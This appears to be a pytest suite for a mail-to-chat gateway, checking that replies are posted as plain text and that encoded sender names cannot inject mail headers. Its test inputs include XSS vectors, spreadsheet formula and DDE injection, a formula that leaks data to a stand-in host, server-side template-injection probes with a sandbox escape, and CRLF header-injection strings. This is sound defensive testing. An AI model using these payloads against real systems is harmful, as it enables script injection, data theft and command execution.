"""What a reply says is words: markup, commands and templates in it do nothing, here or later on.

Each case bears the number of its row in docs/failures.md.
"""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from core.store import held, messages, participants
from core.store.database import Session
from core.verdict import Hold
from tests.support.people import APP, ROOM
from tests.support.reception import Gateway, a_mail, a_shared_gateway

pytestmark = pytest.mark.asyncio(loop_scope="module")

YES = "Yes, it is."
HTML = {"MIME_Version": "1.0", "Content_Type": "text/html; charset=utf-8"}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gateway(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Gateway]:
    """Open one gateway for all cases."""
    async with a_shared_gateway(tmp_path_factory.mktemp("gateway")) as opened:
        yield opened


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param("<script>alert(1)</script>", id="7.17 a script"),
        pytest.param("<ScRiPt\n>alert(1)</sCrIpT\n>", id="7.17 a script in odd letters"),
        pytest.param("<img src=x onerror=alert(1)>", id="7.17 a picture that fails"),
        pytest.param("<svg/onload=alert(1)></svg>", id="7.17 a drawing"),
        pytest.param("<svg><script>alert(1)</script></svg>", id="7.17 a script in a drawing"),
        pytest.param("<iframe srcdoc='<script>alert(1)</script>'></iframe>", id="7.17 a frame"),
        pytest.param("<style>*{background:url(//x.test/?alert)}</style>", id="7.17 a style"),
        pytest.param("<link rel=stylesheet href=//x.test/alert.css>", id="7.17 a sheet of styles"),
        pytest.param("<base href='javascript:alert(1)//'>", id="7.17 another base"),
        pytest.param("<meta http-equiv=refresh content='0;alert'>", id="7.17 another page"),
        pytest.param(
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            id="7.17 what means something else without scripts",
        ),
        pytest.param(
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
            "onerror=alert(1)&gt;'></table></mtext></math>",
            id="7.17 what changes its meaning when it is written again",
        ),
        pytest.param("<template><script>alert(1)</script></template>", id="7.17 a template"),
        pytest.param("<img src=//x.test/alert.gif width=1>", id="7.17 a picture that tells"),
    ],
)
async def test_markup_is_not_posted(gateway: Gateway, markup: str) -> None:
    """Messages are text: of HTML only what is seen comes through."""
    for page in (f"<p>{YES}</p>{markup}", f"{markup}<p>{YES}</p>"):
        mail = a_mail(page, Message_ID=f"<{len(page)}@x>", **HTML)

        assert await gateway.says(mail) == YES


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<b>Yes</b> &amp; <script>alert(1)</script>", id="7.17 typed markup"),
        pytest.param("/kick @ann\n/close", id="7.18 commands"),
        pytest.param("@all @channel @here <@ann|Ann>: look", id="7.18 everybody"),
        pytest.param('=HYPERLINK("http://x.test/?"&A1)', id="7.18 a formula"),
        pytest.param("+cmd|' /C calc'!A0", id="7.18 a program"),
        pytest.param("{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>", id="7.20 sums"),
        pytest.param("{{ ''.__class__.__mro__[1].__subclasses__() }}", id="7.20 a way out"),
        pytest.param("{% for x in range(9**9) %}x{% endfor %}", id="7.20 a loop"),
        pytest.param("{{app.name}} {{sender.name|attr('x')}}", id="7.20 names of ours"),
    ],
)
async def test_what_was_typed_is_posted_as_it_was_typed(gateway: Gateway, text: str) -> None:
    """Nothing in it is obeyed: nobody is named, leaves or is made, and it is never a template."""
    before = await gateway.database.read(_people)
    said = await gateway.says(a_mail(text))
    (newest, *_) = await gateway.database.read(lambda s: messages.page(s, APP, ROOM, 1, None))

    assert said == text
    assert newest.mentions is None
    assert await gateway.database.read(_people) == before


def _people(session: Session) -> list[tuple[str, str, int | None]]:
    """Return who is in the conversation, and how."""
    found = participants.audience(session, APP, ROOM).members
    return sorted((one.user_id, str(one.access), one.left_at) for one in found)


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("=?utf-8?q?Eve=0D=0ABcc:_all@x.test?=", id="7.19 a line end in a name"),
        pytest.param("=?utf-8?b?RXZlDQpCY2M6IGFsbEB4LnRlc3Q=?=", id="7.19 one in base64"),
        pytest.param('"Eve\\\nBcc: all@x.test"', id="7.19 one behind a backslash"),
        pytest.param("=?utf-8?q?Eve=00=E2=80=AE?=", id="7.19 a NUL, and another direction"),
    ],
)
async def test_no_name_of_a_stranger_ends_a_header(gateway: Gateway, name: str) -> None:
    """What the owner is asked about is one address, or nobody if it cannot be told."""
    raw = a_mail(f"I am {name}.", From="", Message_ID="<2@x>")
    verdict = await gateway.offer(f"From: {name} <eve@example.org>\n".encode() + raw)
    waiting = await gateway.database.read(
        lambda s: held.listed(s, APP, waiting_only=True, limit=50)
    )

    assert isinstance(verdict, Hold)
    assert {one.sender for one in waiting} <= {"", "eve@example.org"}
